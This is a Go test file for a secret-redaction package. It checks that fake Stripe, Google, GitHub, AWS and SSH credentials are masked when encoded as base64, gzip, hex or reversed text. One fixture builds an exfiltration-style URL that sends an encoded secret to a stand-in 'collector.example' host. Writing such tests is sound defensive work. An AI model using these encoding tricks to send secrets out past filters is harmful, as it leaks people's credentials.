package redact_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/airlockhq/airlock/app/internal/redact"
)

// wrap cuts s into lines of n bytes, as base64 and xxd -p print them.
func wrap(s string, n int) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n] + "\n")
		s = s[n:]
	}
	b.WriteString(s + "\n")
	return b.String()
}

func reverseEachLine(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		r := []byte(l)
		for a, z := 0, len(r)-1; a < z; a, z = a+1, z-1 {
			r[a], r[z] = r[z], r[a]
		}
		lines[i] = string(r)
	}
	return strings.Join(lines, "\n")
}

func gzipped(s string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write([]byte(s))
	z.Close()
	return b.Bytes()
}

// TestEncodedSecrets is issue 22's attack on the redactor: a file of
// secrets printed as base64 (one line, wrapped, URL-safe in a query, of
// gzip), as hex (xxd -p, one line) and reversed (rev). No piece of the
// encoded text survives String; a marker says what was there.
func TestEncodedSecrets(t *testing.T) {
	files := map[string]string{
		"stripe": "[default]\ntest_mode_api_key = 'sk_test_51Hq9ZxK2mV8pL4nR7sT1wB6cY3dF5gH0jZ2aE4uQx'\n",
		"gemini": `{"access_token": "ya29.a0AfH6SMBq9ZxK2mV8pL4nR7sT1wB6cY3dF5gH0jZ2", "refresh_token": "1//0gq9ZxK2mV8pL4nR7sT1wB6cY3dF5gH0jZ2aE4uQx"}` + "\n",
		"github": "ghp_R7mK2pX9vQ4nL8sT1wB6cY3dF5gH0jZ2aE4u\n",
		"aws":    "[default]\naws_access_key_id = AKIAZ7QX3M4N5P6R2T8W\n",
		"ssh":    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDzq9ZxK2mV8pL4nR7sT1wB6cY3dF5gH0jZ2aE4uQxAAAAJgAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
	}
	for name, file := range files {
		b64 := base64.StdEncoding.EncodeToString([]byte(file))
		forms := map[string]string{
			"base64":          b64 + "\n",
			"base64 wrapped":  wrap(b64, 76),
			"base64 in a URL": "open https://collector.example/?k=" + base64.RawURLEncoding.EncodeToString([]byte(file)) + "&x=1\n",
			"gzip base64":     base64.StdEncoding.EncodeToString(gzipped(file)) + "\n",
			"xxd -p":          wrap(hex.EncodeToString([]byte(file)), 60),
			"hex":             "data: " + hex.EncodeToString([]byte(file)) + " end\n",
			"rev":             reverseEachLine(file),
		}
		for form, text := range forms {
			out := redact.String(text)
			if !strings.Contains(out, "[redacted:") {
				t.Errorf("%s as %s: no marker in %q", name, form, out)
				continue
			}
			// Any 12 bytes of the encoded text that survive are a leak
			// (the reversed form's whole lines go).
			enc := strings.ReplaceAll(strings.TrimSpace(strings.Join(strings.Fields(text), "")), "\n", "")
			for i := 0; i+12 <= len(enc); i += 6 {
				if w := enc[i : i+12]; strings.Contains(strings.Join(strings.Fields(out), ""), w) && form != "base64 in a URL" && form != "hex" {
					t.Errorf("%s as %s: %q survives in %q", name, form, w, out)
					break
				}
			}
			if again := redact.String(out); again != out {
				t.Errorf("%s as %s: not idempotent: %q then %q", name, form, out, again)
			}
		}
	}
}

// TestEncodedBenign: encoded text that holds no secret stays as it is:
// base64 of prose, digests, git SHAs, UUIDs, long identifiers, prose
// reversed.
func TestEncodedBenign(t *testing.T) {
	for _, s := range []string{
		base64.StdEncoding.EncodeToString([]byte("The meeting moved to three o'clock, see you there.")),
		wrap(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("ordinary text, nothing secret here. ", 8))), 76),
		"sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"commit 4296eba9119a1ddddaaef486c9bf4e9c39319606",
		hex.EncodeToString([]byte("just some words, printed as hex by xxd")),
		"AbstractSingletonProxyFactoryBeanConfigurationManager",
		reverseEachLine("The quick brown fox jumps over the lazy dog.\nNothing to see."),
	} {
		if out := redact.String(s); out != s {
			t.Errorf("changed %q into %q", s, out)
		}
	}
}
